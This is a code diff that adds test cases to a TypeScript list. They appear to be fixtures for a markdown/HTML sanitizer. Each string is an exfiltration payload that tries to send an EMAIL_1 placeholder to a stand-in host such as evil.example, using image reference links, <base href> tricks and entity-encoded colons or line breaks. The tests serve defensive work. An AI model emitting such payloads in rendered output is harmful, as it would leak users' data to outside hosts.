@@ -18,5 +18,14 @@ export const CASES: readonly Form[] = [
     id: 'class-that-is-drawn',
     text: '<pre class="mermaid">A["&lt;img src=https#colon;#sol;#sol;evil.example/?EMAIL_1>"]</pre>',
   },
+  {
+    id: 'label-where-a-target-is',
+    text: '![][r]\n\n[r]:[EMAIL_1\n<base href=http&colon;evil>',
+  },
+  { id: 'label-in-a-target', text: '![r]\n\n[r]:[a]:http://evil.example/?EMAIL_1' },
+  { id: 'bracket-in-a-target', text: '![r]\n\n[r]:[a]EMAIL_1\n<base href=http&colon;evil>' },
+  { id: 'label-in-angles', text: '![r]\n>[r]:<http:&/evil]:? EMAIL_1>' },
+  { id: 'line-break-by-entity', text: '"<script>evil&#10;</script>EMAIL_1' },
+  { id: 'line-break-by-name', text: '"<title>evil&NewLine;</title>EMAIL_1' },
   { id: 'class-of-code', text: '<code class="language-svg">evil.EMAIL_1' },
 ]
